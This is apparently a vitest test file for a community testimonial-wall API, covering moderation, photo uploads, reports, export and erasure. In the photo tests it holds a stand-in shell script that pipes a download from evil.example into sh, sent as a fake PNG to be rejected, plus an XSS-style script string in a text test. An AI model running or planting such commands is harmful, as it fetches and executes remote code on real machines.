/** The testimonial wall over HTTP: list, submit, photos, moderation, reports, export, erasure. */
import {
  MemberExport,
  OwnTestimonial,
  OwnTestimonialList,
  PhotoUpload,
  Report,
  ReportList,
  TestimonialPage,
  WallSettings,
  type Testimonial,
} from '@cercle/client';
import { demoReviewPolicyUrl, demoTestimonials } from '@cercle/client/demo';
import { type RateLimits } from '@cercle/server';
import * as v from 'valibot';
import { afterEach, describe, expect, it } from 'vitest';
import {
  type Answer,
  call,
  databaseHolds,
  expectError,
  joinAs,
  NO_LIMITS,
  seedAtelier,
  startServer,
  stopServer,
  type TestServer,
  HOST_KEY,
  ownerKey,
} from './helpers.js';
import { JPEG_6X4, WEBP_6X4, png, withExif } from './images.js';

const C = '/v1/communities/atelier';
const HOUR = 60 * 60 * 1000;

let t: TestServer;
let clock = Date.parse('2026-11-20T10:00:00.000Z');

async function setup(rateLimits: Partial<RateLimits> = {}) {
  clock = Date.parse('2026-11-20T10:00:00.000Z');
  t = await startServer({
    rateLimits: { ...NO_LIMITS, submit: false, upload: false, ...rateLimits },
    now: () => new Date(clock),
  });
  await seedAtelier(t, { privacyPolicyUrl: 'https://atelier.example/privacy', capacity: 3 });
}

afterEach(() => stopServer(t));

const member = (name: string) => joinAs(t.url, name);

/** POSTs raw bytes to the upload route. */
async function upload(
  token: string | undefined,
  bytes: Buffer | ReadableStream<Uint8Array>,
  contentType = 'image/png',
  headers: Record<string, string> = {},
): Promise<Answer> {
  const response = await fetch(`${t.url}${C}/photos`, {
    method: 'POST',
    headers: {
      'content-type': contentType,
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      ...headers,
    },
    body: bytes,
    duplex: 'half',
  } as RequestInit);
  const text = await response.text();
  return {
    status: response.status,
    headers: response.headers,
    body: text === '' ? undefined : JSON.parse(text),
  };
}

async function uploaded(token: string, bytes?: Buffer) {
  const answer = await upload(token, bytes ?? (await png(30, 20)));
  expect(answer.status, JSON.stringify(answer.body)).toBe(201);
  return v.parse(PhotoUpload, answer.body);
}

const body = (extra: Record<string, unknown> = {}) => ({
  rating: 5,
  text: 'Très bon atelier',
  consent: { version: 'v1', publishName: true, publishPhoto: true },
  ...extra,
});

const submit = (token: string | undefined, json: unknown, headers?: Record<string, string>) =>
  call(t.url, `${C}/testimonials`, {
    json,
    ...(token === undefined ? {} : { token }),
    ...(headers ? { headers } : {}),
  });

async function submitted(token: string, extra: Record<string, unknown> = {}) {
  const answer = await submit(token, body(extra));
  expect(answer.status, JSON.stringify(answer.body)).toBe(201);
  return v.parse(OwnTestimonial, answer.body);
}

const list = async (query = '', slug = 'atelier') => {
  const answer = await call(t.url, `/v1/communities/${slug}/testimonials${query}`);
  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  return v.parse(TestimonialPage, answer.body);
};

const mine = async (token: string) =>
  v.parse(OwnTestimonialList, (await call(t.url, `${C}/testimonials/mine`, { token })).body)
    .testimonials;

const hostQueue = async (query = '', slug = 'atelier') =>
  v.parse(
    OwnTestimonialList,
    (
      await call(t.url, `/v1/communities/${slug}/host/testimonials${query}`, {
        token: ownerKey(slug),
      })
    ).body,
  ).testimonials;

const moderate = (id: string, json: unknown) =>
  call(t.url, `${C}/host/testimonials/${id}`, { method: 'PATCH', json, token: HOST_KEY });

const settings = (json: unknown) =>
  call(t.url, `${C}/host/wall`, { method: 'PATCH', json, token: HOST_KEY });

describe('the demo wall', () => {
  it('lists the approved testimonials by pages, in both orders, with the aggregate', async () => {
    t = await startServer({ seed: 'demo' });
    const approved = demoTestimonials.filter(
      (d) => d.community === 'maison-verte' && d.state === 'approved',
    );
    const first = await list('', 'maison-verte');
    expect(first.testimonials).toHaveLength(12);
    expect(first.reviewPolicyUrl).toBe(demoReviewPolicyUrl);
    const average = approved.reduce((sum, d) => sum + d.rating, 0) / approved.length;
    expect(first.aggregate).toEqual({ count: 40, average: Math.round(average * 10) / 10 });

    async function all(query: string) {
      const seen: Testimonial[] = [];
      let cursor: string | null = '';
      while (cursor !== null) {
        const sep = query ? '&' : '?';
        const page = await list(
          cursor
            ? `${query}${sep}cursor=${encodeURIComponent(cursor)}&limit=7`
            : `${query}${sep}limit=7`,
          'maison-verte',
        );
        expect(page.testimonials.length).toBeLessThanOrEqual(7);
        seen.push(...page.testimonials);
        cursor = page.nextCursor;
      }
      return seen;
    }

    const recent = await all('');
    expect(new Set(recent.map((r) => r.id)).size).toBe(40);
    const dates = recent.map((r) => r.publishedAt ?? '');
    expect(dates).toEqual([...dates].sort().reverse());

    const byRating = await all('?sort=rating');
    expect(new Set(byRating.map((r) => r.id))).toEqual(new Set(recent.map((r) => r.id)));
    const keys = byRating.map((r) => `${r.rating}|${r.publishedAt}`);
    expect(keys).toEqual([...keys].sort().reverse());

    // Filters: a tag narrows the list and the aggregate; a minimum rating only the list.
    const pain = await all('?tag=pain');
    const painDemo = approved.filter((d) => d.tags.includes('pain'));
    expect(pain).toHaveLength(painDemo.length);
    expect(pain.every((r) => r.tags.includes('pain'))).toBe(true);
    expect((await list('?tag=pain', 'maison-verte')).aggregate.count).toBe(painDemo.length);
    const good = await all('?minRating=4&sort=rating');
    expect(good).toHaveLength(approved.filter((d) => d.rating >= 4).length);
    expect(good.every((r) => r.rating >= 4)).toBe(true);
    expect((await list('?minRating=4', 'maison-verte')).aggregate.count).toBe(40);

    // Labels, anonymity and photos as seeded.
    expect(recent.some((r) => r.disclosure === 'collaboration-commerciale')).toBe(true);
    expect(recent.some((r) => r.imageFlags.includes('virtuelle'))).toBe(true);
    expect(recent.filter((r) => r.author.displayName === null)).toHaveLength(
      approved.filter((d) => !d.publishName).length,
    );
    expect(recent.every((r) => r.author.verified)).toBe(true);
    const withPhoto = recent.filter((r) => r.photo !== null);
    expect(withPhoto).toHaveLength(approved.filter((d) => d.photo).length);
    const photo = withPhoto[0]?.photo;
    expect(photo?.url.startsWith(`${t.url}/v1/photos/`)).toBe(true);
    const image = await fetch(photo?.url ?? '');
    expect(image.headers.get('content-type')).toBe('image/png');
    const bytes = Buffer.from(await image.arrayBuffer());
    expect(bytes.readUInt32BE(16)).toBe(photo?.width);
    expect(bytes.readUInt32BE(20)).toBe(photo?.height);

    // The host's queue holds the pending ones, oldest first.
    expect(await hostQueue('', 'maison-verte')).toHaveLength(3);
  });

  it('refuses bad queries with field errors', async () => {
    t = await startServer({ seed: 'demo' });
    const W = '/v1/communities/maison-verte/testimonials';
    const page = await list('?limit=2', 'maison-verte');
    for (const query of [
      '?limit=0',
      '?limit=51',
      '?minRating=6',
      '?sort=best',
      '?tag=Not%20a%20tag',
      '?cursor=nonsense',
      `?sort=rating&cursor=${page.nextCursor}`,
    ]) {
      expectError(await call(t.url, `${W}${query}`), 400, 'validation_failed');
    }
    expectError(await call(t.url, '/v1/communities/nope/testimonials'), 404, 'not_found');
  });
});

describe('submitting and moderating', () => {
  it('waits for the host, then shows on the wall once approved', async () => {
    await setup();
    const ada = await member('Ada Lovelace');
    const photo = await uploaded(ada.token, await png(64, 48));
    const own = await submitted(ada.token, {
      rating: 4,
      text: '  Des bols magnifiques.  ',
      photo: { id: photo.id, alt: 'Trois bols bleus' },
      tags: ['bols', 'bols', 'emaux'],
      experiencedAt: '2026-11-01',
    });
    expect(own).toMatchObject({
      state: 'pending',
      statement: null,
      publishedAt: null,
      text: 'Des bols magnifiques.',
      tags: ['bols', 'emaux'],
      experiencedAt: '2026-11-01',
      author: { displayName: 'Ada Lovelace', memberSince: ada.joinedAt, verified: true },
      photo: { url: photo.url, alt: 'Trois bols bleus', width: 64, height: 48 },
      consent: { version: 'v1', publishName: true, publishPhoto: true },
      disclosure: 'none',
      imageFlags: [],
    });
    expect((await list()).testimonials).toEqual([]);
    expect((await hostQueue()).map((q) => q.id)).toEqual([own.id]);

    clock += HOUR;
    const approved = await moderate(own.id, {
      state: 'approved',
      disclosure: 'collaboration-commerciale',
      imageFlags: ['retouchee'],
    });
    expect(approved.status).toBe(200);
    expect(v.parse(OwnTestimonial, approved.body)).toMatchObject({
      state: 'approved',
      publishedAt: new Date(clock).toISOString(),
    });
    const page = await list();
    expect(page.aggregate).toEqual({ count: 1, average: 4 });
    expect(page.reviewPolicyUrl).toBe('https://atelier.example/privacy');
    expect(page.testimonials[0]).toMatchObject({
      id: own.id,
      disclosure: 'collaboration-commerciale',
      imageFlags: ['retouchee'],
      publishedAt: new Date(clock).toISOString(),
    });
    expect(await hostQueue()).toEqual([]);
    expect((await hostQueue('?state=approved')).map((q) => q.id)).toEqual([own.id]);

    // Labels alone can change later; the publication date stays.
    clock += HOUR;
    await moderate(own.id, { disclosure: 'none' });
    expect((await list()).testimonials[0]).toMatchObject({
      disclosure: 'none',
      publishedAt: new Date(clock - HOUR).toISOString(),
    });
  });

  it('tells the author why it was rejected', async () => {
    await setup();
    const ada = await member('Ada');
    const own = await submitted(ada.token);
    expectError(await moderate(own.id, { state: 'rejected' }), 400, 'validation_failed');
    const rejected = await moderate(own.id, {
      state: 'rejected',
      statement: 'Il parle d’un autre atelier.',
    });
    expect(rejected.status).toBe(200);
    expect(await mine(ada.token)).toMatchObject([
      { id: own.id, state: 'rejected', statement: 'Il parle d’un autre atelier.' },
    ]);
    expect((await list()).testimonials).toEqual([]);
    expectError(await moderate('t_nope', { state: 'approved' }), 404, 'not_found');
    expectError(
      await call(t.url, `${C}/host/testimonials/${own.id}`, {
        method: 'PATCH',
        json: { state: 'approved' },
      }),
      401,
      'unauthorized',
    );
  });

  it('publishes at once on a post-moderated wall, with its review policy', async () => {
    await setup();
    const answer = await settings({
      moderation: 'post',
      reviewPolicyUrl: 'https://atelier.example/avis',
    });
    expect(v.parse(WallSettings, answer.body)).toEqual({
      moderation: 'post',
      reviewPolicyUrl: 'https://atelier.example/avis',
    });
    expectError(await settings({ moderation: 'never' }), 400, 'validation_failed');
    const ada = await member('Ada');
    const own = await submitted(ada.token);
    expect(own.state).toBe('approved');
    expect(own.publishedAt).toBe(new Date(clock).toISOString());
    const page = await list();
    expect(page.testimonials.map((r) => r.id)).toEqual([own.id]);
    expect(page.reviewPolicyUrl).toBe('https://atelier.example/avis');
  });

  it('stores and returns the text as text', async () => {
    await setup();
    await settings({ moderation: 'post' });
    const ada = await member('Ada');
    const text = '<script>alert(1)</script> & "quotes" <b>gras</b> l’été';
    const own = await submitted(ada.token, { text });
    expect(own.text).toBe(text);
    expect((await list()).testimonials[0]?.text).toBe(text);
    expect((await mine(ada.token))[0]?.text).toBe(text);
  });

  it('hides the name publicly when the author did not consent to publish it', async () => {
    await setup();
    await settings({ moderation: 'post' });
    const ada = await member('Ada');
    await submitted(ada.token, {
      consent: { version: 'v1', publishName: false, publishPhoto: false },
    });
    expect((await list()).testimonials[0]?.author.displayName).toBeNull();
    expect((await mine(ada.token))[0]?.author.displayName).toBe('Ada');
    expect((await hostQueue('?state=approved'))[0]?.author.displayName).toBe('Ada');
  });

  it('refuses what it cannot accept, with the field at fault', async () => {
    await setup();
    const ada = await member('Ada');
    const bob = await member('Bob');
    const field = (answer: Answer) =>
      expectError(answer, 400, 'validation_failed').details?.[0]?.path;

    expect(
      field(
        await submit(
          ada.token,
          body({ consent: { version: 'v0', publishName: true, publishPhoto: true } }),
        ),
      ),
    ).toBe('consent.version');
    const photo = await uploaded(ada.token);
    expect(
      field(
        await submit(
          ada.token,
          body({
            photo: { id: photo.id, alt: 'Un bol' },
            consent: { version: 'v1', publishName: true, publishPhoto: false },
          }),
        ),
      ),
    ).toBe('consent.publishPhoto');
    expect(field(await submit(bob.token, body({ photo: { id: photo.id, alt: 'Un bol' } })))).toBe(
      'photo.id',
    );
    await submitted(ada.token, { photo: { id: photo.id, alt: 'Un bol' } });
    expect(field(await submit(ada.token, body({ photo: { id: photo.id, alt: 'Encore' } })))).toBe(
      'photo.id',
    );
    expect(field(await submit(ada.token, body({ photo: { id: photo.id, alt: ' ' } })))).toBe(
      'photo.alt',
    );
    expect(field(await submit(ada.token, body({ rating: 6 })))).toBe('rating');
    expect(field(await submit(ada.token, body({ text: '   ' })))).toBe('text');
    expect(field(await submit(ada.token, body({ experiencedAt: '2030-01-01' })))).toBe(
      'experiencedAt',
    );
    expect(field(await submit(ada.token, body({ html: true })))).toBe('html');
    expectError(await submit(undefined, body()), 401, 'unauthorized');
  });

  it('keeps the waitlist out', async () => {
    await setup();
    for (const name of ['A', 'B', 'C']) await member(name);
    const waiting = await member('D');
    const error = expectError(await submit(waiting.token, body()), 403, 'forbidden');
    expect(error.message).toMatch(/waitlist/);
    expectError(await upload(waiting.token, await png(4, 4)), 403, 'forbidden');
  });

  it('replays a retried submission once (Idempotency-Key)', async () => {
    await setup();
    const ada = await member('Ada');
    const headers = { 'idempotency-key': 'submit-1' };
    const first = await submit(ada.token, body(), headers);
    const again = await submit(ada.token, body(), headers);
    expect(first.status).toBe(201);
    expect(again.status).toBe(201);
    expect(again.headers.get('idempotent-replayed')).toBe('true');
    expect(again.body).toEqual(first.body);
    expect(await mine(ada.token)).toHaveLength(1);
    expectError(await submit(ada.token, body({ rating: 1 }), headers), 409, 'conflict');
  });

  it('limits submissions and uploads per member', async () => {
    await setup({ submit: { limit: 2, windowMs: HOUR }, upload: { limit: 1, windowMs: HOUR } });
    const ada = await member('Ada');
    const statuses = [];
    for (let i = 0; i < 3; i++) statuses.push((await submit(ada.token, body())).status);
    expect(statuses).toEqual([201, 201, 429]);
    expect((await upload(ada.token, await png(4, 4))).status).toBe(201);
    const limited = await upload(ada.token, await png(4, 4));
    expectError(limited, 429, 'rate_limited');
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});

describe('withdrawal', () => {
  it('removes it everywhere: the wall, the host queue, the author’s list and the photo', async () => {
    await setup();
    const ada = await member('Ada');
    const bob = await member('Bob');
    const photo = await uploaded(ada.token);
    const own = await submitted(ada.token, { photo: { id: photo.id, alt: 'Un bol' } });
    const other = await submitted(ada.token, { text: 'Une autre' });
    await moderate(other.id, { state: 'approved' });
    const W = `${C}/testimonials/${other.id}`;

    expectError(await call(t.url, W, { method: 'DELETE', token: bob.token }), 403, 'forbidden');
    expectError(await call(t.url, W, { method: 'DELETE' }), 401, 'unauthorized');
    expect((await call(t.url, W, { method: 'DELETE', token: ada.token })).status).toBe(204);
    expect((await list()).testimonials).toEqual([]);
    expectError(await call(t.url, W, { method: 'DELETE', token: ada.token }), 404, 'not_found');

    expect((await fetch(photo.url)).status).toBe(200);
    const P = `${C}/testimonials/${own.id}`;
    expect((await call(t.url, P, { method: 'DELETE', token: ada.token })).status).toBe(204);
    expect(await hostQueue()).toEqual([]);
    expect(await mine(ada.token)).toEqual([]);
    const gone = await fetch(photo.url);
    expect(gone.status).toBe(404);
    expect(gone.headers.get('cache-control')).toBe('no-store');
  });
});

describe('photos', () => {
  it('takes PNG, JPEG and WebP by their bytes, whatever the Content-Type says', async () => {
    await setup();
    const ada = await member('Ada');
    const cases: [Buffer, string, number, number][] = [
      [await png(31, 17), 'image/png', 31, 17],
      [JPEG_6X4, 'image/jpeg', 6, 4],
      [WEBP_6X4, 'image/webp', 6, 4],
    ];
    for (const [bytes, contentType, width, height] of cases) {
      const answer = await upload(ada.token, bytes, 'image/png');
      expect(answer.status, JSON.stringify(answer.body)).toBe(201);
      const stored = v.parse(PhotoUpload, answer.body);
      expect(stored).toMatchObject({ contentType, width, height, bytes: bytes.length });
      expect(stored.id).toMatch(/^ph_[\w-]{16}$/);

      const served = await fetch(stored.url, { headers: { origin: 'https://brand.example' } });
      expect(served.status).toBe(200);
      expect(served.headers.get('content-type')).toBe(contentType);
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      expect(served.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
      expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
    }
    expectError(await call(t.url, '/v1/photos/ph_nope'), 404, 'not_found');

    // The camera's metadata (here a GPS position) is not kept.
    const tagged = v.parse(PhotoUpload, (await upload(ada.token, withExif(JPEG_6X4))).body);
    expect(tagged.bytes).toBe(JPEG_6X4.length);
    const served = Buffer.from(await (await fetch(tagged.url)).arrayBuffer());
    expect(served.equals(JPEG_6X4)).toBe(true);
  });

  it('refuses a script renamed .png, a 10 MB body and truncated images, with clear errors', async () => {
    await setup();
    const ada = await member('Ada');
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    const renamed = expectError(
      await upload(ada.token, script, 'image/png', {
        'content-disposition': 'attachment; filename="cat.png"',
      }),
      415,
      'unsupported_media_type',
    );
    expect(renamed.message).toBe('Send a JPEG, PNG or WebP photo.');

    const huge = expectError(
      await upload(ada.token, Buffer.alloc(10 * 1024 * 1024, 0x41)),
      413,
      'payload_too_large',
    );
    expect(huge.message).toBe('A photo is at most 2 MB.');
    expect(huge.details).toMatchObject({ maxBytes: 2 * 1024 * 1024 });
    // Streamed without a length, it is counted as it arrives.
    const chunks = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < 5; i++) controller.enqueue(new Uint8Array(512 * 1024));
        controller.close();
      },
    });
    const streamed = expectError(await upload(ada.token, chunks), 413, 'payload_too_large');
    expect(streamed.message).toBe('A photo is at most 2 MB.');

    const image = await png(40, 40);
    const truncated = expectError(
      await upload(ada.token, image.subarray(0, image.length - 20)),
      400,
      'validation_failed',
    );
    expect(truncated.message).toBe('The image is truncated or damaged.');
    expectError(
      await upload(ada.token, JPEG_6X4.subarray(0, JPEG_6X4.length - 30), 'image/jpeg'),
      400,
      'validation_failed',
    );
    expectError(await upload(undefined, image), 401, 'unauthorized');
    // Nothing was stored but the refusals' absence.
    expect(t.server.db.prepare('SELECT count(*) FROM photos').pluck().get()).toBe(0);
  });

  it('deletes photos left unattached for a day, on a later upload', async () => {
    await setup();
    const ada = await member('Ada');
    const kept = await uploaded(ada.token);
    const dropped = await uploaded(ada.token);
    await submitted(ada.token, { photo: { id: kept.id, alt: 'Un bol' } });
    clock += 25 * HOUR;
    await uploaded(ada.token);
    expect((await fetch(dropped.url)).status).toBe(404);
    expect((await fetch(kept.url)).status).toBe(200);
  });
});

describe('reports on testimonials', () => {
  it('are filed, listed with the text, and a removal takes it off the wall', async () => {
    await setup();
    const ada = await member('Ada');
    const photo = await uploaded(ada.token);
    const own = await submitted(ada.token, {
      text: 'Publicité cachée',
      photo: { id: photo.id, alt: 'Un produit' },
    });
    const report = (id: string) =>
      call(t.url, `${C}/reports`, {
        json: { target: { kind: 'testimonial', id }, reason: 'spam' },
      });
    // Only what is on the wall can be reported.
    expectError(await report(own.id), 404, 'not_found');
    await moderate(own.id, { state: 'approved' });
    const filed = await report(own.id);
    expect(filed.status).toBe(202);

    const reports = v.parse(
      ReportList,
      (await call(t.url, `${C}/host/reports`, { token: HOST_KEY })).body,
    ).reports;
    expect(reports).toMatchObject([
      { target: { kind: 'testimonial', id: own.id }, targetText: 'Publicité cachée' },
    ]);
    const decided = await call(t.url, `${C}/host/reports/${filed.body.id}/decision`, {
      token: HOST_KEY,
      json: { action: 'remove', statement: 'Contenu commercial non signalé.' },
    });
    expect(v.parse(Report, decided.body).state).toBe('actioned');
    expect((await list()).testimonials).toEqual([]);
    expect((await fetch(photo.url)).status).toBe(404);
    expect(await mine(ada.token)).toMatchObject([
      { state: 'removed', statement: 'Contenu commercial non signalé.' },
    ]);
  });
});

describe('export and erasure', () => {
  it('exports the member’s testimonials, and leaving deletes them and their photos', async () => {
    await setup();
    const name = 'Zéphyrine Quatrebarbes';
    const text = 'Un texte que personne ne doit retrouver après mon départ';
    const leaver = await member(name);
    const photo = await uploaded(leaver.token);
    const spare = await uploaded(leaver.token);
    const own = await submitted(leaver.token, { text, photo: { id: photo.id, alt: 'Un bol' } });
    await moderate(own.id, { state: 'approved' });

    const data = v.parse(
      MemberExport,
      (await call(t.url, `${C}/members/me/export`, { token: leaver.token })).body,
    );
    expect(data.testimonials).toEqual([
      {
        id: own.id,
        rating: 5,
        text,
        photo: { url: photo.url, alt: 'Un bol' },
        tags: [],
        experiencedAt: null,
        state: 'approved',
        statement: null,
        consent: {
          version: 'v1',
          publishName: true,
          publishPhoto: true,
          acceptedAt: own.submittedAt,
        },
        submittedAt: own.submittedAt,
        publishedAt: expect.any(String),
      },
    ]);

    expect(
      (await call(t.url, `${C}/members/me`, { method: 'DELETE', token: leaver.token })).status,
    ).toBe(204);
    expect((await list()).testimonials).toEqual([]);
    expect(await hostQueue('?state=approved')).toEqual([]);
    expect((await fetch(photo.url)).status).toBe(404);
    expect((await fetch(spare.url)).status).toBe(404);
    expect(await databaseHolds(t.file, text)).toBe(false);
    expect(await databaseHolds(t.file, name)).toBe(false);
  });
});
